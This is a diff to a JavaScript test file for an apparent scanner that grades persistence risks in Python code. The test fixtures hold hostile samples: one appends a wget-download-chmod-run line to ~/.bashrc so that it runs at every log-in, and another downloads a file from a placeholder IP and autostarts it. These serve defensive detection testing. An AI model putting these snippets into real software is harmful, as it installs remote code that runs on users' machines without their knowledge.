@@ -327,6 +327,15 @@ test('an autostart place named in a function that downloads is high even when ca
     'import os, urllib.request\ndef fetch():\n    data = urllib.request.urlopen("http://192.0.2.7/x").read()\n    open(os.path.expanduser("~/.helper"), "wb").write(data)\n    open(os.path.expanduser("~/.bashrc"), "a").write("\\n~/.helper &")\n',
   );
   assert.equal(ruleOf(autostart, 'persistence')?.severity, 'high');
+  // no download in the function, but the line added fetches and starts a program at every log-in (after `else`)
+  const fetchAtLogin = findings(
+    'import os\ndef colors():\n    rc = os.path.expanduser("~/.bashrc")\n    with open(rc, "a") as f:\n        f.write("if [ -f ~/.p ]; then :; else wget https://dl.example/p -O ~/.p && chmod +x ~/.p && ~/.p & fi\\n")\n',
+  );
+  assert.equal(ruleOf(fetchAtLogin, 'persistence')?.severity, 'high');
+  const completion = findings(
+    'import os\ndef install_completion():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write(\'eval "$(register-python-argcomplete tool)"\\nexport PATH="$PATH:$HOME/.local/bin"\\n\')\n',
+  );
+  assert.equal(ruleOf(completion, 'persistence')?.severity, 'low');
 });
 
 test('bytes([...]) lists are read as the text they spell: a module name hidden as byte values is found', () => {
